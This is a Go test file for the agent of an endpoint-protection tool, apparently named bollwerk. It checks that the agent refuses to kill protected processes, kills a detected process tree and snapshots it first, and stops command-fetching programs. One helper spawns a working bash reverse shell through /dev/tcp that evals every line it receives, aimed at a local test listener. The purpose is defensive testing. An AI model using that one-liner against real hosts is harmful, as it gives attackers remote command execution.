package agent

import (
	"bufio"
	"errors"
	"fmt"
	"log/slog"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/bollwerk/bollwerk"
	"github.com/bollwerk/bollwerk/recorder"
	"github.com/bollwerk/bollwerk/sensor"
)

// TestHold refuses whoever must not be stopped, and a number that belongs to another
// process by now.
func TestHold(t *testing.T) {
	cmd := exec.Command("sleep", "60")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = cmd.Process.Kill(); _ = cmd.Wait() }()
	pid := uint32(cmd.Process.Pid)
	start, err := sensor.StartTime(pid)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []*bollwerk.Process{
		{PID: 1}, {PID: 0}, {PID: uint32(os.Getpid())}, {PID: uint32(os.Getppid())}, {PID: 2, Kernel: true},
		{PID: pid, Start: start + uint64(time.Second)}, // the number belongs to another process now
		{PID: 1 << 22, Start: 1},
	} {
		if v, err := hold(p); err == nil {
			v.close()
			t.Errorf("%+v would be killed", p)
		}
	}
	v, err := hold(&bollwerk.Process{PID: pid, Start: start})
	if err != nil {
		t.Fatal(err)
	}
	v.close()
}

// stopper is an agent that can stop processes and capture them, and nothing else.
func stopper(t *testing.T, sources ...sensor.Source) *Agent {
	t.Helper()
	s, err := sensor.Open(t.Context(), sensor.Options{NoBPF: true}, sources...)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = s.Close() })
	a := &Agent{c: &Config{State: t.TempDir()}, sensor: s, log: slog.New(slog.DiscardHandler)}
	if err := a.c.Validate(); err != nil {
		t.Fatal(err)
	}
	a.capture = newCapturing(a)
	a.guarding = &guarding{a: a}
	return a
}

// shell is a reverse shell of this machine to a listener of ours, a child of its own
// included, and one that the table of processes does not know.
func shell(t *testing.T, table func() *Agent) (a *Agent, cmd *exec.Cmd, pids []int) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	_, port, _ := net.SplitHostPort(l.Addr().String())
	cmd = exec.Command("bash", "-c", "exec 0<>/dev/tcp/127.0.0.1/"+port+" 1>&0 2>&0; sleep 61 & echo $$ $!; while read -r line; do eval \"$line\"; done")
	cmd.Env = append(os.Environ(), "STOLEN=secret-of-the-shell")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	c, err := l.Accept()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.Close() })
	var known, unknown int
	r := bufio.NewReader(c)
	var self int
	if _, err := fmt.Fscanln(r, &self, &known); err != nil || self != cmd.Process.Pid {
		t.Fatal(self, err)
	}
	a = table()
	fmt.Fprint(c, "sleep 62 & echo $!\n")
	if _, err := fmt.Fscanln(r, &unknown); err != nil {
		t.Fatal(err)
	}
	return a, cmd, []int{cmd.Process.Pid, known, unknown}
}

// gone waits until a process has ended, or is a zombie.
func gone(t *testing.T, pid int) {
	t.Helper()
	fd, err := unix.PidfdOpen(pid, 0)
	if errors.Is(err, unix.ESRCH) {
		return
	}
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(fd)
	for deadline := time.Now().Add(time.Minute); ; {
		n, err := unix.Poll([]unix.PollFd{{Fd: int32(fd), Events: unix.POLLIN}}, int(max(0, time.Until(deadline).Milliseconds())))
		switch {
		case errors.Is(err, unix.EINTR):
		case err != nil || n == 0:
			b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
			t.Fatalf("process %d lives: %s %v", pid, b, err)
		default:
			return
		}
	}
}

// TestStopCaptures ends a real reverse shell: all of its tree is killed, also a child that
// no source has told of yet, and what it was is captured before.
func TestStopCaptures(t *testing.T) {
	a, cmd, pids := shell(t, func() *Agent { return stopper(t) })
	a.capture.held = time.Minute // everything is to be in it, on a busy machine too
	start, err := sensor.StartTime(uint32(pids[0]))
	if err != nil {
		t.Fatal(err)
	}
	p := a.sensor.Kernel().Processes.Get(uint32(pids[0]), start)
	child := a.sensor.Kernel().Processes.Get(uint32(pids[1]), 0)
	d := &bollwerk.Detection{ID: "0123456789abcdef", Rule: "reverse-shell", Time: time.Now(), Process: p}
	if err := a.guarding.stop(d); err != nil {
		t.Fatal(err)
	}
	err = cmd.Wait()
	if s, ok := cmd.ProcessState.Sys().(syscall.WaitStatus); !ok || s.Signal() != syscall.SIGKILL {
		t.Errorf("the shell ended with %v", err)
	}
	for _, pid := range pids[1:] {
		gone(t, pid)
	}
	// What another detector says of a process of that tree is about one that was killed.
	if err := a.guarding.stop(&bollwerk.Detection{ID: "other", Time: time.Now(), Process: child}); err != nil {
		t.Errorf("a process that ended with the tree: %v", err)
	}
	if err := a.guarding.stop(&bollwerk.Detection{ID: "other", Time: time.Now(), Process: &bollwerk.Process{PID: 1 << 22, Start: 1}}); err == nil {
		t.Error("a process that nobody ended was said to be killed")
	}
	if d.Snapshot == "" {
		t.Fatalf("no snapshot is named: %q", d.Causes)
	}
	if len(a.capture.jobs) != 1 {
		t.Fatalf("%d captures wait to be written", len(a.capture.jobs))
	}
	s := (<-a.capture.jobs).snapshot
	name, err := recorder.Save(filepath.Join(a.c.State, "snapshots"), s, 10)
	if err != nil {
		t.Fatal(err)
	}
	if s, err = recorder.LoadSnapshot(name); err != nil {
		t.Fatal(err)
	}
	if s.ID != d.Snapshot || s.Detection.Outcome != bollwerk.Killed {
		t.Errorf("%s, %s of %+v", s.ID, d.Snapshot, s.Detection)
	}
	for _, pid := range pids {
		if !slices.ContainsFunc(s.Processes, func(x recorder.ProcessSnapshot) bool { return x.PID == pid }) {
			t.Errorf("process %d of %d is not in it", pid, pids)
		}
	}
	first := s.Processes[0]
	if first.PID != pids[0] || !first.Subject || len(first.Maps) == 0 || !slices.Contains(first.Env, "STOLEN=secret-of-the-shell") {
		t.Errorf("the shell as it was: %+v", first)
	}
	if len(first.Sockets) == 0 || !strings.HasPrefix(first.Sockets[0].Remote, "127.0.0.1:") || first.Sockets[0].State != "established" {
		t.Errorf("its connection: %+v of %+v", first.Sockets, first.Files)
	}
	t.Logf("%d processes captured in %s", len(s.Processes), s.Took)
}

// TestStopBehind: a child of a program that fetches its commands is gone when it is told;
// the program is ended, so that there is no next one.
func TestStopBehind(t *testing.T) {
	a := stopper(t)
	loop := func() (*exec.Cmd, *bollwerk.Process) {
		cmd := exec.Command("sh", "-c", "while true; do sleep 0.01; done")
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = cmd.Process.Kill() })
		start, err := sensor.StartTime(uint32(cmd.Process.Pid))
		if err != nil {
			t.Fatal(err)
		}
		return cmd, &bollwerk.Process{PID: uint32(cmd.Process.Pid), Start: start, Contained: true, Cgroup: 7}
	}
	cmd, behind := loop()
	child := &bollwerk.Process{PID: 1 << 22, Start: 1, Parent: behind, Contained: true, Cgroup: 7}
	for range 2 { // the second command of the same program is told later
		if err := a.guarding.stop(&bollwerk.Detection{ID: "behind", Time: time.Now(), Process: child, Behind: behind}); err != nil {
			t.Fatal(err)
		}
	}
	_ = cmd.Wait()
	if s, ok := cmd.ProcessState.Sys().(syscall.WaitStatus); !ok || s.Signal() != syscall.SIGKILL {
		t.Errorf("it ended with %v", cmd.ProcessState)
	}
	_, other := loop()
	for name, d := range map[string]*bollwerk.Detection{
		"another cgroup":  {Process: &bollwerk.Process{PID: 1 << 22, Start: 1, Parent: other, Contained: true, Cgroup: 8}, Behind: other},
		"not an ancestor": {Process: &bollwerk.Process{PID: 1 << 22, Start: 1, Contained: true, Cgroup: 7}, Behind: other},
	} {
		if got := culprit(d); got != d.Process {
			t.Errorf("%s would be ended", name)
		}
	}
	host := *other
	host.Contained = false
	if d := (&bollwerk.Detection{Process: &bollwerk.Process{Parent: &host, Cgroup: 7}, Behind: &host}); culprit(d) != d.Process {
		t.Error("a process of the host would be ended")
	}
}

// TestStopAtOnce: captures never keep the agent from stopping. Beyond a few in a row,
// and for what was captured before, the kill comes alone.
func TestStopAtOnce(t *testing.T) {
	a := stopper(t)
	captured := 0
	for i := range 2 * killCaptures {
		cmd := exec.Command("sleep", "60")
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		d := &bollwerk.Detection{ID: fmt.Sprintf("%016x", i/2), Time: time.Now(), Process: &bollwerk.Process{PID: uint32(cmd.Process.Pid)}}
		a.capture.credited = time.Now() // as if no time had passed since the last one
		if err := a.guarding.stop(d); err != nil {
			t.Fatal(err)
		}
		_ = cmd.Wait()
		if s, ok := cmd.ProcessState.Sys().(syscall.WaitStatus); !ok || s.Signal() != syscall.SIGKILL {
			t.Errorf("ended with %v", cmd.ProcessState)
		}
		if d.Snapshot != "" {
			captured++
		}
		if i%2 == 1 && d.Snapshot != "" {
			t.Errorf("%s was captured twice", d.ID)
		}
	}
	if captured != killCaptures {
		t.Errorf("%d captures, want %d", captured, killCaptures)
	}
	a.capture.credit = 0
	a.capture.credited = time.Now()
	if a.capture.before(&bollwerk.Detection{ID: "new", Time: time.Now()}) {
		t.Error("a capture without credit")
	}
}
